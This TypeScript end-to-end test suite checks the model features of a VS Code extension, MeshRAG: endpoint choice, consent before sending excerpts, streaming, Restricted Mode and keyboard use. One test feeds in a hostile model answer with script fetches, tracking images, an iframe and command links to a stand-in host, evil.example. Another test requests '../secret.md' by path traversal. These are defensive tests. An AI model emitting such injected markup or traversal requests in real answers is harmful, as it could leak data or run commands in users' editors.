// Models from the user's point of view: choosing one, being asked before anything is sent, watching the answer arrive, stopping it.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { test } from 'node:test';
import type { Frame } from 'playwright-core';
import { type LoopbackServer, loopbackServer } from '../models/loopbackServer.ts';
import { answered, ask, cardOf, decide, typeQuestion } from '../support/answerPanel.ts';
import { seriousProblems } from '../support/axe.ts';
import { copyFixture } from '../support/fixture.ts';
import type { Workbench } from '../support/host/workbench.ts';
import { statusItem, whenIndexed, withMeshrag } from '../support/meshrag.ts';
import { sharedWindow } from '../support/sharedWindow.ts';
import { setTheme, themes } from '../support/theme.ts';
import { until } from '../support/until.ts';

const inWindow = sharedWindow();

const question = 'Which kettle is heated first?';

const using = (server: LoopbackServer, name: string) => ({ 'meshrag.model.endpoint': server.endpoint, 'meshrag.model.name': name });

/** Filters the open list by the name of a row, waits until it is the first, and chooses it; another list may open in its place. */
async function choose(window: Workbench, row: string): Promise<void> {
  await window.fillQuickInput(row);
  await window.page.locator('.quick-input-list .monaco-list-row').first().filter({ hasText: row }).waitFor();
  await window.page.keyboard.press('Enter');
}

/** Fills the open input box and confirms it. */
async function enter(window: Workbench, title: string, text: string): Promise<void> {
  await window.page.locator('.quick-input-title', { hasText: title }).waitFor();
  await window.fillQuickInput(text);
  await window.page.keyboard.press('Enter');
}

async function startAsking(window: Workbench, text: string): Promise<void> {
  await window.palette('MeshRAG: Ask workspace');
  await typeQuestion(window, text);
  await window.page.keyboard.press('Enter');
}

test('an endpoint is added, its model chosen, the request viewed, sent, and viewed again', async (t) => {
  const server = await loopbackServer(t);
  server.answer = 'The kettle that waits longest is heated first [1]. Nobody knows why it is so.';
  await withMeshrag('models', {}, async (window) => {
    await whenIndexed(window);
    await window.palette('MeshRAG: Choose Model');
    await window.page.locator('.quick-input-list .monaco-list-row', { hasText: 'No model (quotes only)' }).waitFor();
    await window.screenshot('models-picker');
    await choose(window, 'Add an endpoint');
    await window.page.locator('.quick-input-list .monaco-list-row', { hasText: 'LM Studio' }).waitFor();
    await window.screenshot('models-presets');
    await choose(window, 'Other (OpenAI');
    await enter(window, 'The base URL of the endpoint', server.endpoint);
    await enter(window, 'API key for', 'right-key');
    await window.page.locator('.quick-input-list .monaco-list-row', { hasText: 'another' }).waitFor();
    await window.screenshot('models-of-endpoint');
    await window.pick('well');

    await startAsking(window, question);
    const card = await cardOf(window);
    assert.match(
      await card.locator('.consent').innerText(),
      /Send excerpts of this workspace to 127\.0\.0\.1:\d+\?[\s\S]*Model: well[\s\S]*\d+ excerpts[\s\S]*Earlier questions included, with answers: 0/,
    );
    assert.match(await card.locator('.facts').innerText(), /Waiting for your permission/);
    await window.screenshot('models-consent');
    assert.deepEqual(
      server.received.map(({ method }) => method),
      ['GET'],
    );
    await card.locator('.consent summary', { hasText: 'Show the exact request' }).click();
    await card.locator('.request pre', { hasText: 'Which kettle is heated first?' }).first().waitFor();
    await window.screenshot('models-preview');
    await decide(card, 'Send');
    const frame = await answered(window, question);
    assert.equal(await frame.locator('.consent').count(), 0);
    assert.match(await frame.locator('.facts').innerText(), /of \d+ sources · well/);
    assert.match(await frame.locator('.chip.model').innerText(), /well/);
    assert.equal(server.received.at(-1)?.headers.authorization, 'Bearer right-key');
    await window.screenshot('models-answer');
    assert.deepEqual(await seriousProblems(frame), []);

    await frame.locator('.facts .link').last().click();
    await frame.locator('.page h2', { hasText: 'What was sent' }).waitFor();
    await frame.locator('.page pre', { hasText: 'Which kettle is heated first?' }).first().waitFor();
    await window.screenshot('models-sent');
    assert.deepEqual(await seriousProblems(frame), []);
    await until('the verdict', async () => {
      await window.listed('Test Model Connection', 'MeshRAG: Choose Model');
      const isThere = async () => (await window.notifications()).some((text) => /well at 127.* answers/.test(text));
      return until('the verdict after a choice', isThere, 10_000).catch(() => false);
    });
  });
});

test('an answer is visible while it is written, and can be stopped', async (t) => {
  const server = await loopbackServer(t);
  server.answer = 'The kettle that waits longest is heated first [1]. '.repeat(30);
  await inWindow('models-stream', using(server, 'slow'), async (window) => {
    await startAsking(window, question);
    await decide(await cardOf(window), 'Send');
    const frame = await window.webviewFrame('.turn[data-state="streaming"]');
    await frame.locator('.citation').first().waitFor();
    await window.screenshot('models-streaming');
    const closed = server.closed();
    await frame.locator('footer textarea').focus();
    await window.page.keyboard.press('Escape');
    // Resolves only for an answer that is cut off: the whole one takes 27 seconds.
    await closed;
    await frame.locator('.turn[data-state="stopped"]').waitFor();
    assert.match(await frame.locator('.turn').innerText(), /waits longest/);
    await window.screenshot('models-stopped');
  });
});

test('failures are shown and can be retried; after a refusal the answer is quoted', async (t) => {
  const server = await loopbackServer(t);
  await inWindow('models-errors', using(server, 'unauthorized'), async (window) => {
    await startAsking(window, question);
    await decide(await cardOf(window), 'Don’t send');
    const frame = await answered(window, question);
    assert.match(await frame.locator('.note').innerText(), /Nothing was sent to 127\.0\.0\.1:\d+: you did not agree\./);
    await window.screenshot('models-declined');
    await startAsking(window, 'Which kettle is heated last of all?');
    await decide(await cardOf(window), 'Send');
    const failed = frame.locator('.turn[data-state="failed"]');
    await failed.waitFor();
    assert.match(await failed.innerText(), /rejects the key \(401\)/);
    await window.screenshot('models-failed');
  });
});

/** In four themes, and beside the file tree as well as alone at the width of a side bar, checked for accessibility. */
async function pictures(window: Workbench, frame: Frame, name: string): Promise<void> {
  for (const theme of themes) {
    await setTheme(window, frame, theme);
    assert.deepEqual(await seriousProblems(frame), [], theme.name);
    await window.screenshot(`${name}-${theme.file}`);
  }
  await setTheme(window, frame, themes[0]);
  for (const width of [640, 400]) {
    if (width === 400) await window.page.keyboard.press('Control+b');
    await window.page.setViewportSize({ width, height: 800 });
    assert.deepEqual(await seriousProblems(frame), [], String(width));
    await window.screenshot(`${name}-${width}`);
  }
  await window.page.keyboard.press('Control+b');
  await window.page.setViewportSize({ width: 1280, height: 800 });
}

test('where questions alone may be sent, no file is, and what the other words lead to is quoted', async (t) => {
  let release: () => void = () => undefined;
  const pictured = new Promise<void>((resolve) => {
    release = resolve;
  });
  const server = await loopbackServer(t, {
    speak: async () => {
      await pictured;
      return { text: 'Order of heating kettles: queue, lowest target\nNames: KettleQueue', promptTokens: 1, answerTokens: 1 };
    },
  });
  const asked = 'What comes onto the fire before all others?';
  const settings = { ...using(server, 'speaker'), 'meshrag.model.options': { restateSeconds: 120 } };
  await inWindow('models-questions', settings, async (window) => {
    await startAsking(window, asked);
    const card = await cardOf(window);
    assert.match(await card.locator('.consent').innerText(), /“Only my questions”: .* about 300 tokens, nothing from files\./);
    await pictures(window, card, 'models-consent-sizes');
    await decide(card, 'Only my questions');
    const frame = await window.webviewFrame('.turn[data-state="asking"] .answer .text > *');
    await pictures(window, frame, 'models-first-phase');
    release();
    // After keys were pressed the quotes may be being read.
    await frame.getByRole('button', { name: 'A better answer is here: show it' }).click();
    await answered(window, asked);
    await frame.getByRole('list', { name: 'Also looked for' }).waitFor();
    assert.deepEqual(await frame.getByRole('list', { name: 'Also looked for' }).locator('.chipLabel').allInnerTexts(), [
      'Order of heating kettles',
      'queue',
      'lowest target',
      'KettleQueue',
    ]);
    assert.match(await frame.locator('.answer').innerText(), /KettleQueue/);
    await window.screenshot('models-questions-only');
    assert.equal(server.received.length, 1);
    assert.doesNotMatch(server.received[0]?.body ?? '', /target first|kettle\.ts/);
    // It is not asked for again.
    await startAsking(window, 'And what comes onto the fire last of all?');
    await answered(window, 'And what comes onto the fire last of all?');
    assert.equal(server.received.length, 2);
  });
});

test('quotes come at once; the better answer takes their place, or is offered where they are being read', async (t) => {
  const held: (() => void)[] = [];
  /** Lets the model answer, once its request is there. */
  const release = async (): Promise<void> => {
    await until('a request at the model', async () => held.length > 0);
    held.shift()?.();
  };
  const server = await loopbackServer(t, {
    speak: async () => {
      await new Promise<void>((resolve) => held.push(resolve));
      return { text: 'Order of heating kettles: queue, lowest target\nNames: KettleQueue', promptTokens: 1, answerTokens: 1 };
    },
  });
  const settings = { ...using(server, 'speaker'), 'meshrag.model.options': { restateSeconds: 20 } };
  await inWindow('models-phases', settings, async (window) => {
    const { page } = window;
    await startAsking(window, 'What comes onto the fire before all others?');
    await decide(await cardOf(window), 'Only my questions');
    const frame = await window.webviewFrame('.turn[data-state="asking"] .answer .text > *');
    assert.match(await frame.locator('.facts').innerText(), /Found by your own words; speaker is asked for others/);
    await release();
    await frame.locator('.turn[data-state="done"]').waitFor();
    await frame.getByRole('list', { name: 'Also looked for' }).waitFor();
    assert.equal(await frame.locator('.offer:visible').count(), 0);
    await pictures(window, frame, 'models-second-phase');

    const follow = 'What comes onto the fire last of all things?';
    await frame.locator('footer textarea').focus();
    await page.keyboard.insertText(follow);
    await page.keyboard.press('Enter');
    const turn = frame.locator('.turn').last();
    await frame.locator('.turn[data-state="asking"]').last().locator('.answer .text > *').first().waitFor();
    await turn.locator('.answer').hover();
    await frame.evaluate(() =>
      document.addEventListener('wheel', () => document.body.setAttribute('data-wheeled', ''), { capture: true, once: true }),
    );
    await until('the wheel to be turned in the panel', async () => {
      await page.mouse.wheel(0, 1);
      return (await frame.locator('body[data-wheeled]').count()) === 1;
    });
    const before = await turn.locator('.answer').innerText();
    await release();
    const offer = frame.getByRole('button', { name: 'A better answer is here: show it' });
    await offer.waitFor();
    assert.equal(await turn.locator('.answer').innerText(), before);
    for (const theme of themes) {
      await setTheme(window, frame, theme);
      assert.deepEqual(await seriousProblems(frame), [], theme.name);
      await window.screenshot(`models-offered-${theme.file}`);
    }
    await setTheme(window, frame, themes[0]);
    await offer.focus();
    await page.keyboard.press('Enter');
    await turn.getByRole('list', { name: 'Also looked for' }).waitFor();
    await until('the keyboard at the answer', () => frame.evaluate(() => document.activeElement?.classList.contains('turn') === true));

    // Later than the limit: the quotes stay, with one sentence, and nothing is sent again.
    await startAsking(window, 'Which of them is never heated at all?');
    const late = await answered(window, 'Which of them is never heated at all?');
    await late.locator('.note', { hasText: 'speaker did not restate the question within 20 s; it was searched for as it is.' }).waitFor();
    assert.equal(server.received.length, 3);
    await window.screenshot('models-late');
  });
});

test('a model that looks further: each look is shown, opens its request, and can be made to wait for permission', async (t) => {
  const asked = 'What comes onto the fire before all others?';
  const looks = [
    'LOOK read docs/harbour.md 1-9\nLOOK outline docs/brewing.md',
    'I need more.\n\nLOOK search quay 77 crane\nLOOK read ../secret.md 1-9',
  ];
  let release: () => void = () => undefined;
  const released = new Promise<void>((resolve) => {
    release = resolve;
  });
  const server = await loopbackServer(t, {
    async speak({ messages }) {
      const rounds = messages.filter(({ role }) => role === 'assistant').length;
      if (rounds === 2) await released;
      return { text: looks[rounds] ?? 'The kettle with the lowest target [1].', promptTokens: 1, answerTokens: 1 };
    },
  });
  const settings = { ...using(server, 'speaker'), 'meshrag.model.options': { askBeforeLook: true } };
  const folder = copyFixture('workspace');
  t.after(() => fs.rmSync(folder, { recursive: true, force: true }));
  // More than the first request holds.
  const quays = Array.from(
    { length: 90 },
    (_, i) => `## Quay ${i}\n\nQuay ${i} has a crane, a rail and ${i} lamps, which are lit at dusk.\n`,
  );
  fs.writeFileSync(path.join(folder, 'docs/harbour.md'), `# Harbour\n\n${quays.join('\n')}`);
  await withMeshrag('models-looks', { settings, folder }, async (window) => {
    await window.statusBarText(statusItem, /\b17 files/);
    /** Presses once: the next card may follow at once. */
    const send = async (text: RegExp): Promise<Frame> => {
      const frame = await cardOf(window);
      const card = frame.locator('.consent').filter({ hasText: text });
      await card.waitFor();
      assert.deepEqual(await seriousProblems(frame), []);
      await window.screenshot(`models-looks-consent-${await frame.locator('.looks li').count()}`);
      await card.getByRole('button', { name: 'Send', exact: true }).click();
      return frame;
    };
    await startAsking(window, asked);
    await send(/up to five requests/);
    const card = await send(/The model has looked for more/);
    assert.equal(await card.getByRole('button', { name: 'Only my questions' }).count(), 0);
    await until('the second look', async () => (await card.locator('.looks li').count()) === 4);
    await send(/The model has looked for more/);
    const frame = await window.webviewFrame('.turn[data-state="streaming"]');
    const list = frame.getByRole('list', { name: 'What the model looked for' });
    await until('the requests of all looks', async () => (await list.getByRole('button').count()) === 4);
    assert.deepEqual(await list.locator('li').allInnerTexts(), [
      'Read docs/harbour.md 1–9',
      'Outline of docs/brewing.md',
      'Looked for: quay 77 crane',
      'Read ../secret.md 1–9 (may not be shown)',
    ]);
    assert.doesNotMatch(await frame.locator('.turn').innerText(), /LOOK|I need more/);
    await window.screenshot('models-looks-streaming');
    release();
    await answered(window, asked);
    await pictures(window, frame, 'models-looks');
    // By keyboard.
    await list.getByRole('button', { name: 'Read docs/harbour.md 1–9: show the request with what was found' }).focus();
    await window.page.keyboard.press('Enter');
    await frame.locator('.page h2', { hasText: 'What was sent' }).waitFor();
    await window.screenshot('models-looks-sent');
  });
});

test('in Restricted Mode no model is called: Choose Model says so, questions are quoted, and an answer offers to trust the workspace', async (t) => {
  const server = await loopbackServer(t);
  await withMeshrag('models-trust', { settings: using(server, 'well'), restricted: true }, async (window) => {
    const restricted = 'This workspace is in Restricted Mode, so no model is called.';
    const rows = window.page.locator('.quick-input-list .monaco-list-row');
    const trustPage = window.page.locator('.workspace-trust-editor');
    await whenIndexed(window);
    await window.page.locator('.statusbar-item', { hasText: 'Restricted Mode' }).waitFor();
    await window.quickOpen('src/kettle.ts');
    assert.match(await window.hoverText('KettleQueue', /Related/), /brewing\.md/);
    await window.palette('MeshRAG: Choose Model');
    // The endpoint's own row appears once loading has finished.
    await rows.filter({ hasText: 'Enter a model name' }).waitFor();
    assert.match(
      await rows.first().innerText(),
      /This workspace is in Restricted Mode, so no model is called\.[\s\S]*Manage Workspace Trust/,
    );
    await window.screenshot('models-trust-picker');
    assert.deepEqual(server.received, []);
    await window.page.keyboard.press('Enter');
    await trustPage.waitFor();
    await window.closeModal();

    const frame = await ask(window, question);
    assert.match(await frame.locator('.note').innerText(), /this workspace is in Restricted Mode/);
    assert.match(await frame.locator('.facts').innerText(), /^\d+ of \d+ sources · [\d.,]+ s$/);
    await until('the notification', async () => (await window.notifications()).includes(restricted));
    await window.screenshot('models-trust-answer');
    assert.deepEqual(server.received, []);
    await frame.locator('.note .link', { hasText: 'Manage Workspace Trust' }).click();
    await trustPage
      .locator('.monaco-button', { hasText: /^Trust$/ })
      .first()
      .click();
    await window.page.locator('.statusbar-item', { hasText: 'Restricted Mode' }).waitFor({ state: 'hidden' });
    // The page covers the answer panel until it is closed.
    await window.closeModal();
    await startAsking(window, 'Which kettle is heated last of all?');
    await decide(await cardOf(window), 'Send');
    await until('the request', () => server.received.some(({ method }) => method === 'POST'));
  });
});

test('an answer that tries to load, link or run something shows only words', async (t) => {
  const server = await loopbackServer(t);
  server.answer = [
    'All is well ![p](https://evil.example/p.png?q=1) <img src="https://evil.example/q.png"> [1].',
    'Run [this](command:workbench.action.terminal.new) or <a href="command:workbench.action.quit">that</a> [2].',
    '<script>fetch("https://evil.example/s")</script> <iframe src="https://evil.example/f"></iframe> <style>@import "https://evil.example/c"</style> https://evil.example/bare [1].',
  ].join('\n\n');
  await inWindow('models-hostile', using(server, 'well'), async (window) => {
    const wanted: string[] = [];
    window.page.on('request', (request) => wanted.push(request.url()));
    await startAsking(window, question);
    await decide(await cardOf(window), 'Send');
    const frame = await answered(window, question);
    await window.screenshot('models-hostile');
    const active = await frame.evaluate(() =>
      [...document.querySelectorAll('main a, main img, main iframe, main script, main style, main link, main object')].map(
        (one) => one.outerHTML,
      ),
    );
    assert.deepEqual(active, []);
    // VS Code's own names for webview resources contain no such host.
    assert.deepEqual(
      wanted.filter((url) => url.includes('evil')),
      [],
    );
    assert.match(await frame.locator('.turn').innerText(), /All is well p/);
  });
});

test('by keyboard: a follow-up waits for permission with what is sent along, survives a reload, and is sent by Enter', async (t) => {
  const server = await loopbackServer(t);
  await withMeshrag('models-keys', { settings: using(server, 'well') }, async (window, folder) => {
    const { page } = window;
    await whenIndexed(window);
    for (const [first, text] of [
      [true, question],
      [false, 'And which tea needs boiling water?'],
    ] as const) {
      if (first) await startAsking(window, text);
      else {
        await (await window.webviewFrame('footer textarea')).locator('footer textarea').focus();
        await page.keyboard.insertText(text);
        await page.keyboard.press('Enter');
      }
      const frame = await cardOf(window);
      if (first) await decide(frame, 'Don’t send');
      if (first) await answered(window, text);
    }
    const included = async (): Promise<string> => {
      const frame = await cardOf(window);
      return (await frame.locator('.consent li').allInnerTexts()).join('\n');
    };
    assert.match(await included(), /Earlier questions included, with answers: 1/);
    await page.locator('.tab.active', { hasText: 'And which tea needs boiling water?' }).waitFor();

    // The quoted file is changed, as by a switch of branches, and the window is closed before the decision.
    const quoted = path.join(folder, 'docs/brewing.md');
    fs.appendFileSync(quoted, '\nMore.\n');
    for (const file of ['src/kettle.ts', 'docs/architecture.md']) fs.appendFileSync(path.join(folder, file), '\n');
    await window.reloadByCommand();
    await until('the card of the changed workspace', async () => /left out because quoted files changed: 1/.test(await included()));
    assert.match(await included(), /Earlier questions included, with answers: 0/);
    assert.equal(server.received.length, 0);
    await window.screenshot('models-left-out');

    await window.palette('MeshRAG: Focus Answer');
    const frame = await cardOf(window);
    // The card may be drawn once more, and take the keyboard, after the key.
    await until('the keyboard at the button', async () => {
      const isAtCard = await frame.evaluate(() => document.activeElement?.classList.contains('consent') === true);
      if (isAtCard) {
        await page.keyboard.press('Tab');
        await page.waitForTimeout(1000);
      }
      return frame.evaluate(() => document.activeElement?.textContent?.trim() === 'Send');
    });
    await page.keyboard.press('Enter');
    await answered(window, 'And which tea needs boiling water?');
    const sent = server.received.at(-1)?.body ?? '';
    assert.match(sent, /boiling water/);
    assert.doesNotMatch(sent, /Which kettle is heated first/);
  });
});
